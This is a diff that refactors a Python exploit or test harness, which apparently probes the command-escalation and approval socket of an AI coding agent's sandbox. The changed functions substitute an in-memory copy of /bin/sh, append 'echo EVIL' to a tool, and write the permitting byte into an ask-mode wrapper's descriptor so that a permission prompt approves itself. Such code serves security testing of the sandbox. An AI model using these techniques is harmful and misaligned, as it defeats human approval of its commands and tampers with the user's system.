@@ -12,6 +12,7 @@ import socket
 import struct
 import sys
 import time
+from pathlib import Path
 
 RENDEZVOUS = int(os.environ["CODEX_ESCALATE_SOCKET"])
 
@@ -34,7 +35,7 @@ def hello(*, keep: bool = False) -> tuple[int, int]:
 
 def request(file: str, argv: list[str], flags: int = 0) -> bytes:
     """A REQUEST frame."""
-    strings = b"".join(os.fsencode(text) + b"\0" for text in (file, os.getcwd(), *argv))
+    strings = b"".join(os.fsencode(text) + b"\0" for text in (file, str(Path.cwd()), *argv))
     payload = struct.pack("<BIII", flags, 0o22, len(argv), 0) + strings
     return struct.pack("<IB", len(payload) + 1, 1) + payload
 
@@ -65,8 +66,7 @@ def claim(path: str, real: str, *arguments: str) -> None:
     """Ask for ``path`` with a descriptor of ``real`` (``memfd``: of an unnamed copy of the shell)."""
     if real == "memfd":
         memory = os.memfd_create("x")
-        with open("/bin/sh", "rb") as shell:
-            os.write(memory, shell.read())
+        os.write(memory, Path("/bin/sh").read_bytes())
         real = f"/proc/self/fd/{memory}"
     program = os.open(real, os.O_PATH)
     stream, _ = hello()
@@ -83,7 +83,7 @@ def rewrite(tool: str) -> None:
     stream, _ = hello()
     send(stream, request(tool, [tool], flags=1), (os.open(tool, os.O_PATH),))
     kind, _ = answer(stream)
-    with open(tool, "a") as file:
+    with Path(tool).open("a") as file:
         file.write("echo EVIL\n")
     if kind == 3:
         hand_over(stream)
@@ -162,13 +162,12 @@ def press(seconds: str) -> None:
     """Write the permitting byte into whatever descriptor a wrapper in ask mode answers on."""
     give_up = time.monotonic() + float(seconds)
     while time.monotonic() < give_up:
-        for name in os.listdir("/proc"):
+        for process in Path("/proc").glob("[0-9]*"):
             try:
-                with open(f"/proc/{name}/cmdline", "rb") as file:
-                    words = file.read().split(b"\0")
+                words = (process / "cmdline").read_bytes().split(b"\0")
                 if words[0].startswith(b"codex-execve-ask:"):
                     number = int(words[0].partition(b":")[2])
-                    os.write(os.open(f"/proc/{name}/fd/{number}", os.O_WRONLY), b"R")
+                    os.write(os.open(process / "fd" / str(number), os.O_WRONLY), b"R")
                     print("pressed", flush=True)
                     return
             except OSError:
